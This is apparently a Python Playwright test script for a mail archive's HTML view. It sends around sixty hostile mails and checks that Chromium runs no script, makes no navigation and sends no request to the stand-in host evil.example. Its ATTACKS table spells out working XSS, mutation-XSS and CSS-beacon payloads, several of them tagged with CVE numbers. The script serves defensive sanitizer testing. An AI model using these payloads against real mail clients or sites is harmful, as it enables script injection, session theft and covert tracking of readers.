"""Hostile mail, opened as HTML in a real Chromium: nothing is asked for elsewhere, nothing runs, nothing navigates.

    FUNDMAIL_BINARY=… scripts/browser/attacks.py

Each attack is a mail of its own, filed by `replay` and opened at /library/emails/…?view=html. A listener stands in for
every other server: even a connection without a request (preconnect) is noticed.
"""
import email.message
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading

from playwright.sync_api import sync_playwright

PROGRAM = os.environ["FUNDMAIL_BINARY"]
SHOTS = ".build/pages/attacks"
ANN, PASSWORD = "ann@example.com", "correct horse battery"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc000000301010018dd8db0"
    "0000000049454e44ae426082")
EVIL = "https://evil.example/x"
RUN = "document.title='RUN';alert('RUN')"
# Shown behind each attack, so that one knows that the mail was shown at all.
END = "<p id=end>the end of the mail</p>"

ATTACKS = {
    "script": f"<script>{RUN}</script><script src={EVIL}></script>",
    "script in comments": f"<script><!--<script></script>-->{RUN}</script>",
    "script in svg": f"<svg><script>{RUN}</script><script href={EVIL} /></svg>",
    "image handler": f"<img src=x onerror=\"{RUN}\">",
    "handler without spaces": f"<img/src=x/onerror={RUN}><svg/onload={RUN}>",
    "body handler": f"<body onload=\"{RUN}\" onpageshow=\"{RUN}\">",
    "animation handler": f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart=\"{RUN}\">",
    "details": f"<details open ontoggle=\"{RUN}\"><summary>x</summary></details>",
    "focus": f"<input autofocus onfocus=\"{RUN}\"><a autofocus tabindex=1 onfocus=\"{RUN}\">x</a>",
    "marquee": f"<marquee onstart=\"{RUN}\">x</marquee>",
    "svg use (CVE-2023-5631)": f"<svg><use href=\"data:image/svg+xml,&lt;svg id='x' onload='{RUN}'/&gt;#x\"/></svg>",
    "svg animate (CVE-2024-37383)": f"<svg><a><animate attributeName='href ' values='javascript:{RUN}'/><text y=9>x</text></a></svg>",
    "svg set (CVE-2025-68461)": f"<svg><image><set attributeName=href to={EVIL} /></image></svg>",
    "body attributes (CVE-2024-42009)": f"<body title='bgcolor=foo' name='bar style=animation-name:x onanimationstart={RUN}'>",
    "style import (CVE-2024-42010)": f"<style>@import '{EVIL}'; @import url({EVIL});</style>",
    "feImage (CVE-2026-25916)": f"<svg><filter id=f><feImage href={EVIL} /></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "body background (CVE-2026-35542)": f"<body background={EVIL}>",
    "svg fill (CVE-2026-35543)": f"<svg><rect width=9 height=9 fill='url({EVIL}#x)'/></svg>",
    "fixed (CVE-2026-35544)": "<div id=fixed style='position:fixed !important;top:0;left:0'>fixed</div>",
    "css variables (CVE-2026-48846)": f"<div style='--u:url({EVIL});background:var(--u);width:9px;height:9px'></div>",
    "mglyph (CVE-2024-45800)": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    "textarea": f"<textarea><p title=\"</textarea><img src=x onerror={RUN}>\"></textarea>",
    "comment ends": f"<!--><img src=x onerror={RUN}>--><!-- --!><img src=x onerror={RUN}>-->",
    "CDATA": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "foreign style": f"<math><style><img title=\"</style><img src=x onerror={RUN}>\"></math>",
    "template": f"<template shadowrootmode=open><script>{RUN}</script><img src={EVIL}></template>",
    "iframe": f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>top.{RUN}</script>'></iframe>",
    "iframe of ours": "<iframe src=/library></iframe><iframe src=/account></iframe>",
    "object": f"<object data={EVIL}></object><embed src={EVIL}><object data=/account></object>",
    "frames": f"<frameset><frame src={EVIL}></frameset>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "refresh to us": "<meta http-equiv=refresh content='0;url=/account'>",
    "base": f"<base href={EVIL} target=_top><img src=y><a href=z>x</a>",
    "stylesheet": f"<link rel=stylesheet href={EVIL}><link rel=icon href={EVIL}>",
    "preconnect": "<link rel=preconnect href=https://evil.example><link rel=dns-prefetch href=//evil.example>",
    "prefetch": f"<link rel=prefetch href={EVIL}><link rel=preload as=image href={EVIL}><link rel=modulepreload href={EVIL}>",
    "picture": f"<img src={EVIL}><img src=//evil.example/y><img src=http://evil.example/z>",
    "picture sets": f"<picture><source srcset={EVIL}><img srcset='{EVIL} 1x' src=x></picture>",
    "input image": f"<input type=image src={EVIL}>",
    "video": f"<video src={EVIL} poster={EVIL} autoplay><track src={EVIL}></video><audio src={EVIL} autoplay></audio>",
    "css background": f"<p style=\"background:url('{EVIL}')\">x</p><style>p{{background-image:url({EVIL})}}</style>",
    "css in escapes": f"<p style='background:\\75\\72\\6c({EVIL})'>x</p>",
    "css list": f"<ul style='list-style-image:url({EVIL})'><li>x</ul><style>li::before{{content:url({EVIL})}}</style>",
    "css cursor": f"<p style='cursor:url({EVIL}),auto;border-image:url({EVIL}) 1;mask:url({EVIL})'>x</p>",
    "css image-set": f"<p style=\"background:image-set('{EVIL}' 1x);background:-webkit-image-set(url({EVIL}) 1x)\">x</p>",
    "css font": f"<style>@font-face{{font-family:f;src:url({EVIL})}}p{{font-family:f}}</style><p>x</p>",
    "css that ends its element": f"<style>p{{content:\"</style><img src=x onerror={RUN}>\"}}</style>",
    "css by ampersand": f"<p style=\"color:red&semi;background:url({EVIL})\">x</p>",
    "table background": f"<table background={EVIL}><tr><td background={EVIL}>x</td></tr></table>",
    "form": f"<form action={EVIL} id=f><input name=a value=b></form><button form=f formaction={EVIL}>x</button>",
    "form to us": "<form action=/sign-out method=post><button autofocus>x</button></form>",
    "schemes": f"<a href=\"javascript:{RUN}\">x</a><a href='java\tscript:{RUN}'>y</a><a href='data:text/html,x'>z</a>",
    "target": f"<a href={EVIL} target=_top rel=opener>x</a><a href={EVIL} target=_parent ping={EVIL}>y</a>",
    "area": f"<map name=m><area shape=default href='javascript:{RUN}'></map><img usemap=#m src=x>",
    "dialog": f"<dialog open onclose=\"{RUN}\">x</dialog><p popover id=p onbeforetoggle=\"{RUN}\">y</p>",
    "svg picture": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}'/></svg>\">",
    "deep": "<div>" * 5000,
    "one tag": "<p title='" + f"<img src={EVIL}>" * 1000,
}


class Listener:
    """Every other server."""

    def __init__(self):
        self.connections = 0
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.listen, daemon=True).start()

    def listen(self):
        while True:
            connection, _ = self.socket.accept()
            self.connections += 1
            connection.close()


class Server:
    """A served store with one mail for each attack."""

    def __init__(self):
        self.folder = tempfile.mkdtemp(prefix="fundmail-attacks-")
        self.run("init", self.folder, configured=False)
        with open(f"{self.folder}/fundmail.yaml", "a") as file:
            file.write('server: {listen: "127.0.0.1:0"}\n')
        self.run("user", "add", ANN, "--name", "Ann Archer")
        self.run("fund", "add", "Fund1", "--owner", ANN)
        self.run("user", "passwd", ANN, input=PASSWORD + "\n")
        os.mkdir(f"{self.folder}/mail")
        for number, (name, html) in enumerate(ATTACKS.items()):
            self.mail(number, f"[Fund1] {name}", END.replace("end>", "start>") + html + END)
        self.mail("good", "[Fund1] Quarterly letter", open(f"{os.path.dirname(__file__)}/letter.html").read())
        self.run("replay", f"{self.folder}/mail")
        self.process = subprocess.Popen(
            [PROGRAM, "--config", f"{self.folder}/fundmail.yaml", "serve"], stderr=subprocess.PIPE, text=True)
        self.address = re.search(r"http://[0-9.:]+", self.process.stderr.readline()).group()

    def run(self, *words, input=None, configured=True):
        command = [PROGRAM] + (["--config", f"{self.folder}/fundmail.yaml"] if configured else []) + list(words)
        subprocess.run(command, input=input, text=True, check=True, stdout=subprocess.DEVNULL)

    def mail(self, number, subject, html):
        message = email.message.EmailMessage()
        message["From"], message["To"], message["Subject"] = f"Ann Archer <{ANN}>", "funds@example.com", subject
        message["Date"], message["Message-ID"] = "Fri, 20 Nov 2026 09:14:00 +0000", f"<{number}@example.com>"
        message.set_content(html, subtype="html")
        if number == "good":
            message.add_related(PNG, maintype="image", subtype="png", cid="<logo@example.com>", filename="logo.png")
        with open(f"{self.folder}/mail/{number}.eml", "wb") as file:
            file.write(bytes(message))

    def stop(self):
        self.process.terminate()
        errors = [line for line in self.process.stderr if " error " in line or " critical " in line]
        shutil.rmtree(self.folder)
        return errors


class Visit:
    """One browser, and what is wrong with what it does."""

    def __init__(self, browser, server, listener, **options):
        self.server, self.listener, self.problems, self.foreign = server, listener, [], []
        self.context = browser.new_context(**{"viewport": {"width": 1024, "height": 768}, "locale": "en-GB", **options})
        self.page = self.context.new_page()
        self.page.set_default_timeout(60_000)
        self.page.on("dialog", lambda dialog: (self.problems.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
        self.page.on("console", self.heard)
        self.page.on("pageerror", lambda error: self.problems.append(f"script: {error}"))
        self.context.on("request", self.asked)
        self.context.on("page", lambda page: self.problems.append(f"a window: {page.url}") if self.is_strict else None)
        self.is_strict = True
        self.open("/sign-in")
        self.page.fill("#username", ANN)
        self.page.fill("#password", PASSWORD)
        self.page.click("main button")
        self.mails = {}
        self.open("/library/funds/1/mail")
        while True:
            for link in self.page.locator("a.name[href*='/library/emails/']").all():
                subject = link.locator("bdi").first.inner_text().removeprefix("[Fund1] ")
                self.mails[subject] = link.get_attribute("href")
            following = self.page.locator(".paging a")
            if not following.count():
                break
            following.first.click()

    def heard(self, message):
        # The listener answers nothing; that something was asked for is noticed by itself.
        if message.type == "error" and "Failed to load resource" not in message.text:
            self.problems.append(f"console: {message.text}")

    def asked(self, request):
        if not request.url.startswith((self.server.address, "data:")):
            self.foreign.append(request.url)

    def open(self, path):
        self.page.goto(self.server.address + path)

    def expect(self, what, holds):
        if not holds:
            self.problems.append(f"not so: {what} ({self.page.url})")

    def frame(self):
        self.page.wait_for_selector("iframe.mail")
        frame = self.page.frame_locator("iframe.mail")
        return frame

    def attack(self, name):
        before, self.problems, self.foreign = self.listener.connections, [], []
        address = f"{self.mails[name]}?view=html"
        self.open(address)
        frame = self.frame()
        self.expect("the mail is shown", frame.locator("#start").first.is_visible())
        self.page.mouse.move(400, 500)
        self.page.mouse.click(400, 600)
        self.page.keyboard.press("Tab")
        self.page.wait_for_timeout(150)
        self.expect("the page stays", self.page.url == self.server.address + address)
        self.expect("its title stays", "RUN" not in self.page.title())
        self.expect("one frame alone", len(self.page.frames) == 2)
        for link in frame.locator("a[href]").all():
            self.expect("a link opens elsewhere", link.get_attribute("target") == "_blank")
            self.expect("a link tells nothing", link.get_attribute("rel") == "noopener noreferrer")
        self.expect("nothing stands still", frame.locator("#fixed").count() == 0 or frame.locator("#fixed").evaluate(
            "e => getComputedStyle(e).position") != "fixed")
        for selector in ("script", "svg", "math", "iframe", "object", "embed", "form", "input", "link", "base", "meta[http-equiv]"):
            self.expect(f"no {selector}", frame.locator(selector).count() == 0)
        self.expect(f"nothing is asked for elsewhere: {self.foreign[:2]}", not self.foreign)
        self.expect("no connection", self.listener.connections == before)
        return self.problems

    def letter(self, shot):
        """A mail as people send them: pictures, a link that lies, dark paper."""
        self.problems, self.foreign, self.is_strict = [], [], False
        self.open(self.mails["Quarterly letter"])
        self.page.screenshot(path=f"{SHOTS}/{shot}-text.png")
        self.page.click(".tabs a:visible >> nth=1")
        frame = self.frame()
        self.expect("its own picture is shown", frame.locator("#logo").evaluate("e => e.naturalWidth") == 1)
        self.expect("the others are not", frame.locator("#chart").get_attribute("src") is None)
        self.expect("they are counted", "2" in self.page.locator(".mailbar p").inner_text())
        self.page.wait_for_timeout(200)
        self.page.screenshot(path=f"{SHOTS}/{shot}-html.png")
        self.expect("nothing is asked for elsewhere", not self.foreign)
        self.page.check("#dim")
        self.page.screenshot(path=f"{SHOTS}/{shot}-dim.png")
        self.page.click(".mailbar button")
        frame = self.frame()
        self.expect("remote pictures have their address", frame.locator("#chart").get_attribute("src") is not None)
        self.page.wait_for_timeout(300)
        self.expect(f"they are asked for now: {self.foreign}", any("chart.png" in url for url in self.foreign))
        self.page.screenshot(path=f"{SHOTS}/{shot}-shown.png")
        self.foreign = []
        self.page.reload()
        frame = self.frame()
        frame.locator("#chart").wait_for(state="attached")
        self.expect("but once", frame.locator("#chart").get_attribute("src") is None and not self.foreign)
        with self.context.expect_page() as opened:
            frame.locator("#liar").click()
        window = opened.value
        window.wait_for_url("**/library/leaving?**")
        window.wait_for_selector("main h1")
        self.expect("both hosts are named", "bank.example" in window.inner_text("main") and "evil.example" in window.inner_text("main"))
        self.expect("the window is on its own", window.evaluate("window.opener") is None)
        window.wait_for_timeout(300)
        self.expect("nothing goes on by itself", not self.foreign)
        window.screenshot(path=f"{SHOTS}/{shot}-leaving.png")
        window.close()
        self.open(self.mails["Quarterly letter"].split("?")[0] + "/frame")
        self.expect("the frame is no page", self.page.url.endswith("?view=html"))
        return self.problems


def main():
    shutil.rmtree(SHOTS, ignore_errors=True)
    os.makedirs(SHOTS)
    failed, listener, server = 0, Listener(), Server()

    def tell(name, problems):
        nonlocal failed
        failed += bool(problems)
        if problems:
            print(f"FAILED  {name}")
        for problem in problems:
            print(f"          {problem}")

    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path="/usr/bin/chromium",
                args=[f"--host-resolver-rules=MAP *.example 127.0.0.1:{listener.port}, MAP evil.example 127.0.0.1:{listener.port}"])
            visit = Visit(browser, server, listener)
            for name in ATTACKS:
                try:
                    tell(name, visit.attack(name))
                except Exception as error:  # the next one can go on
                    tell(name, visit.problems + [f"{type(error).__name__}: {str(error)[:400]}"])
            visit.context.close()
            for shot, options in {
                "tablet": {}, "dark": {"color_scheme": "dark", "locale": "zh-CN"}, "plain": {"java_script_enabled": False},
                "phone": {"viewport": {"width": 390, "height": 844}, "has_touch": True},
            }.items():
                try:
                    visit = Visit(browser, server, listener, **options)
                    tell(shot, visit.letter(shot))
                except Exception as error:
                    tell(shot, visit.problems + [f"{type(error).__name__}: {str(error)[:400]}"])
                visit.context.close()
            browser.close()
    finally:
        errors = server.stop()
    for line in errors:
        print(f"FAILED  the server said: {line.strip()}")
    print(f"{len(ATTACKS)} attacks, {failed} failures")
    return 1 if failed or errors else 0


if __name__ == "__main__":
    sys.exit(main())
